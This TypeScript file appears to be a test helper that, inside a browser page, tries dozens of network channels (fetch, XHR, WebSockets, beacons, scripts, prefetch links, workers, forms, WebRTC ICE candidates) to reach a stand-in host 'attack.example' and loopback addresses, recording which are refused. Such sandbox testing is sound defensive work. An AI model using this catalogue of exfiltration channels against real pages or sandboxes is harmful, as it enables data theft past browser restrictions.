/**
 * Runs inside the page: everything a page can try in order to reach a server, by name and by address. It must not refer
 * to anything outside itself. @returns what each attempt came to, "refused" or "done", by its name
 */
export async function attackPage(port: number): Promise<Record<string, string>> {
  const hosts = [
    `http://attack.example:${port}`,
    `http://127.0.0.1:${port}`,
    `http://localhost:${port}`,
    `http://[::1]:${port}`,
  ];
  const outcomes: Record<string, string> = {};
  const soon = (milliseconds: number): Promise<void> => new Promise((done) => setTimeout(done, milliseconds));
  const attempt = async (name: string, run: () => unknown): Promise<void> => {
    try {
      const outcome = await Promise.race([run(), soon(1_500).then(() => 'nothing')]);
      outcomes[name] = typeof outcome === 'string' ? outcome : 'done';
    } catch {
      outcomes[name] = 'refused';
    }
  };
  const loads = (element: HTMLElement, start: () => void): Promise<string> =>
    new Promise((resolve) => {
      element.addEventListener('load', () => resolve('done'));
      element.addEventListener('error', () => resolve('refused'));
      start();
      document.body.append(element);
    });
  const opens = (target: EventTarget): Promise<string> =>
    new Promise((resolve) => {
      target.addEventListener('open', () => resolve('done'));
      target.addEventListener('error', () => resolve('refused'));
    });
  for (const host of hosts) {
    await attempt(`fetch ${host}`, () => fetch(`${host}/fetch`, { mode: 'no-cors' }));
    await attempt(`XMLHttpRequest ${host}`, () => {
      const request = new XMLHttpRequest();
      const outcome = new Promise<string>((resolve) => {
        request.onload = () => resolve('done');
        request.onerror = () => resolve('refused');
      });
      request.open('POST', `${host}/xhr`);
      request.send('data');
      return outcome;
    });
    await attempt(`WebSocket ${host}`, () => opens(new WebSocket(`${host.replace('http', 'ws')}/socket`)));
    await attempt(`EventSource ${host}`, () => opens(new EventSource(`${host}/events`)));
    // It says that it was queued, and is refused afterwards.
    navigator.sendBeacon(`${host}/beacon`, 'data');
    await attempt(`image ${host}`, () => {
      const image = new Image();
      return loads(image, () => (image.src = `${host}/image.png`));
    });
    await attempt(`script ${host}`, () => {
      const script = document.createElement('script');
      return loads(script, () => (script.src = `${host}/script.js`));
    });
    await attempt(`style ${host}`, () => {
      const link = document.createElement('link');
      return loads(link, () => Object.assign(link, { rel: 'stylesheet', href: `${host}/style.css` }));
    });
    for (const rel of [
      'preconnect',
      'dns-prefetch',
      'prefetch',
      'prerender',
      'preload',
      'modulepreload',
      'manifest',
      'icon',
    ]) {
      const link = document.createElement('link');
      Object.assign(link, { rel, as: rel === 'preload' ? 'fetch' : '', href: `${host}/${rel}` });
      document.head.append(link);
    }
    for (const tag of ['iframe', 'embed', 'object', 'video', 'audio'] as const) {
      const element = document.createElement(tag);
      element.setAttribute(tag === 'object' ? 'data' : 'src', `${host}/${tag}`);
      document.body.append(element);
    }
    const styled = document.createElement('div');
    styled.style.backgroundImage = `url(${host}/background.png)`;
    styled.textContent = 'styled';
    document.body.append(styled);
    const face = new FontFace('attack', `url(${host}/font.woff2)`);
    await attempt(`font ${host}`, () => face.load());
    await attempt(`import ${host}`, () => import(`${host}/module.js`));
    await attempt(`worker ${host}`, () => {
      const worker = new Worker(`${host}/worker.js`);
      return opens(worker);
    });
    await attempt(`worker of a blob ${host}`, () => {
      const code = new Blob([`fetch('${host}/from-a-worker')`], { type: 'text/javascript' });
      return opens(new Worker(URL.createObjectURL(code)));
    });
    const form = document.createElement('form');
    Object.assign(form, { action: `${host}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
    const link = document.createElement('a');
    Object.assign(link, { href: `${host}/link`, ping: `${host}/ping`, download: 'file' });
    document.body.append(link);
    link.click();
    window.open(`${host}/window`);
    const inside = document.createElement('iframe');
    document.body.append(inside);
    inside.contentWindow?.fetch(`${host}/from-a-frame`).catch(() => undefined);
    location.href = `${host}/location`;
  }
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const constructors = [window, frame.contentWindow].map(
    // Typed as Window, which leaves constructors out.
    (scope) => (scope as typeof globalThis | null)?.RTCPeerConnection,
  );
  for (const [index, Connection] of constructors.entries()) {
    for (const host of ['127.0.0.1', 'attack.example', '[::1]']) {
      const urls = [`stun:${host}:${port}`, `turn:${host}:${port}?transport=udp`, `turn:${host}:${port}?transport=tcp`];
      urls.push(`turns:${host}:${port}`);
      await attempt(`RTCPeerConnection ${index} ${host}`, async () => {
        if (Connection === undefined) throw new Error('There is none.');
        const peer = new Connection({ iceServers: urls.map((url) => ({ urls: url, username: 'u', credential: 'c' })) });
        peer.createDataChannel('data');
        await peer.setLocalDescription(await peer.createOffer());
        // A peer named in a description of one's own is tried without any server.
        const other = new Connection();
        await other.setRemoteDescription(peer.localDescription ?? { type: 'offer', sdp: '' });
        await other.setLocalDescription(await other.createAnswer());
        await peer.setRemoteDescription(other.localDescription ?? { type: 'answer', sdp: '' });
        for (const kind of ['udp', 'tcp']) {
          const candidate = `candidate:1 1 ${kind} 2122260223 127.0.0.1 ${port} typ host${kind === 'tcp' ? ' tcptype passive' : ''}`;
          await peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
        }
        await soon(1_000);
        return peer.iceConnectionState;
      });
    }
  }
  await soon(1_500);
  return outcomes;
}
